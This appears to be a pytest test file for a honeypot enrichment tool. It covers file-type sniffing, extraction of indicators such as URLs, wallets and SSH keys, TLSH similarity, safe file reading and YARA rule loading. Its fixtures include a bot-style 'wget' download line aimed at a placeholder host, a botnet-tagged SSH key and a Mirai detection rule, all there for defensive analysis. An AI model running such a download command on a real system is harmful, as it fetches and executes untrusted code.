"""What the bytes of a file say: its type, its strings, how it is like others; and how it is read."""

import os
import random
from pathlib import Path

import pytest

from cowrie_assets.enrichment import file_contents
from cowrie_assets.enrichment.file_contents import ChangingError, UnreadableError, examine, read_content
from cowrie_assets.enrichment.file_strings import MOST_OF_A_KIND, packer_of, strings_of
from cowrie_assets.enrichment.file_types import type_of
from cowrie_assets.enrichment.yara_rules import read_rules
from cowrie_assets.errors import SettingsError
from cowrie_assets.summaries.similar_files import bands, distance

GENESIS = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"
MONERO = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEIQczXkVx9q"


@pytest.mark.parametrize(
    ("head", "said"),
    [
        (b"", "empty"),
        (b"\x7fELF\x01\x01\x01" + bytes(11) + b"\x28\x00", "elf arm 32-bit"),
        (b"\x7fELF\x02\x02\x01" + bytes(11) + b"\x00\x08", "elf mips 64-bit"),
        (b"\x7fELF", "elf"),
        (b"MZ" + bytes(58) + b"\x40\x00\x00\x00PE\x00\x00\x64\x86", "pe x86-64"),
        (b"MZ" + bytes(58) + b"\xff\xff\xff\xff", "dos executable"),
        (b"#!/usr/bin/env python3\n", "script python"),
        (b"#!/bin/sh\n\x00", "script sh"),
        (b"#!\xff", "script"),
        (b"\x1f\x8b\x08", "gzip"),
        (b"\n <!DOCTYPE html>", "html"),
        (bytes(257) + b"ustar", "tar"),
        ("Grüße".encode(), "text"),
        (("x" + "ü" * 4096).encode()[:4096], "text"),
        (b"\xff\xfe\xfd" * 10, "data"),
    ],
)
def test_a_type_by_its_first_bytes(head: bytes, said: str) -> None:
    assert type_of(head) == said


def test_strings_of_interest() -> None:
    content = (
        b"\x00wget http://192.0.2.7/bins/x.sh;tftp://h/a\x00 v1.2.3.4.5 10.0.0.300 198.51.100.2:23 127.0.0.1 "
        + f"{GENESIS} {GENESIS[:-1]}b {MONERO} 0x{'ab12' * 10}\nssh-ed25519 {KEY} mdrfckr\n".encode()
    )
    assert strings_of(content) == {
        "urls": ["http://192.0.2.7/bins/x.sh", "tftp://h/a"],
        "addresses": ["192.0.2.7", "198.51.100.2"],
        "wallets": [f"bitcoin:{GENESIS}", f"monero:{MONERO}", f"ethereum:0x{'ab12' * 10}"],
        "ssh_keys": ["SHA256:FHsTyFHNmvNpw4o7+rp+M1yqMyBF8vXSBRkZtkQ0RKY"],
    }
    assert strings_of(b"nothing") == {}
    many = strings_of(b" ".join(b"http://h/%d" % number for number in range(200)))
    assert len(many["urls"]) == MOST_OF_A_KIND
    assert strings_of(b"http://" + b"a" * 10**6) == {}, "one that is cut was never there"
    assert packer_of(b"x" * 100 + b"UPX!") == "upx"
    assert packer_of(b"plain") is None


def test_digests_are_as_far_apart_as_tlsh_says() -> None:
    """The vectors are of `tlsh.diff` of TLSH 4."""
    one = "T14192E1BBAB72F563D7B7DF8718D02D189AAA4124820E252121C4C3E8DCD86F34D71C15"
    assert len(bands(one)) == 16
    assert distance(one, one) == 0
    other = one[:8] + "F" * 64
    assert distance(one, other) == distance(other, one) > 200
    assert distance(one, "T1" + "00" + one[4:]) == 1


def test_tlsh_of_the_library_is_measured_alike() -> None:
    tlsh = pytest.importorskip("tlsh")
    chance = random.Random(3)
    base = bytearray(chance.randbytes(20_000))
    digests = []
    for _ in range(8):
        digests.append(tlsh.hash(bytes(base)))
        for _ in range(len(digests) * 300):
            base[chance.randrange(len(base))] = chance.randrange(256)
        base += bytes(len(base) // 3)
    assert len({*digests}) == 8
    for one in digests:
        assert [distance(one, other) for other in digests] == [tlsh.diff(one, other) for other in digests]


def test_only_a_regular_file_is_read_and_none_that_changes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "file").write_bytes(b"abc")
    (tmp_path / "link").symlink_to("file")
    (tmp_path / "folder").mkdir()
    os.mkfifo(tmp_path / "pipe")
    folder = os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY)
    try:
        content = read_content("file", folder)
        assert content.sha256 == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        assert content.md5.hex() == "900150983cd24fb0d6963f7d28e17f72"
        assert (content.size, content.kept, content.is_whole) == (3, b"abc", True)
        for name, why in (("link", "symbolic"), ("folder", "."), ("pipe", "it is no file"), ("none", "No such file")):
            with pytest.raises(UnreadableError, match=why):
                read_content(name, folder)
        monkeypatch.setattr(file_contents, "KEPT_BYTES", 2)
        assert (read_content("file", folder).kept, read_content("file", folder).is_whole) == (b"ab", False)
        monkeypatch.setattr(file_contents, "MOST_BYTES", 2)
        with pytest.raises(UnreadableError, match="longer than"):
            read_content("file", folder)
        monkeypatch.undo()
        monkeypatch.setattr(file_contents.hashlib, "sha256", lambda: (tmp_path / "file").write_bytes(b"other"))
        monkeypatch.setattr(file_contents, "_CHUNK", 0)
        with pytest.raises(ChangingError):
            read_content("file", folder)
    finally:
        os.close(folder)


def test_entropy_is_in_thousandths_of_a_bit(tmp_path: Path) -> None:
    def entropy(content: bytes) -> int:
        return examine(file_contents.Content(len(content), content, "", b"", b""), None).entropy

    assert [entropy(content) for content in (b"", b"aaaa", b"ab" * 9, bytes(range(256)))] == [0, 0, 1000, 8000]


def test_rules_of_the_user_are_run(tmp_path: Path) -> None:
    pytest.importorskip("yara_x")
    (tmp_path / "bots.yar").write_text('rule mirai { strings: $a = "/bin/busybox MIRAI" condition: $a }')
    rules = read_rules(tmp_path)
    assert rules.matching(b"x /bin/busybox MIRAI") == ["bots:mirai"]
    assert rules.matching(b"x") == []
    (tmp_path / "more.yara").write_text("rule anything { condition: true }")
    assert read_rules(tmp_path).mark != rules.mark
    (tmp_path / "bots.yar").write_text("rule {")
    with pytest.raises(SettingsError, match=r"bots\.yar"):
        read_rules(tmp_path)
    with pytest.raises(SettingsError, match="No such file"):
        read_rules(tmp_path / "none.yar")
